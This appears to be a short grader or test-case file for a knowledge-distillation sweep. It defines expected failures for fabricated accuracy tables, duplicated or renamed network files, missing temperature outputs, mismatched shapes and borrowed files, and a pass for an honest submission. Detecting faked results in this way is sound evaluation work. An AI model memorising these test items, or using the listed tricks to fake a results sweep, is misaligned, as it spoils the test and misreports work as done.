lab("sweep-a-table-made-up", "failed", 6, "accuracy: you report 99.17 %")
lab("sweep-one-student-eighteen-times", "failed", says="is the same file as")
lab("sweep-one-student-under-eighteen-names", "failed", says="it is the same network under another name")
lab("sweep-one-temperature-left-out", "missing", says="`t16-0.onnx` was not handed in")
lab("sweep-rows-of-another-shape", "failed", says="all students must have one shape")
lab("sweep-the-other-labs-files", "missing", says="was not handed in", make=lambda forge: forge.honest(forge.TRADE))

_kind = "honest"
entry("honest-last", "passed")
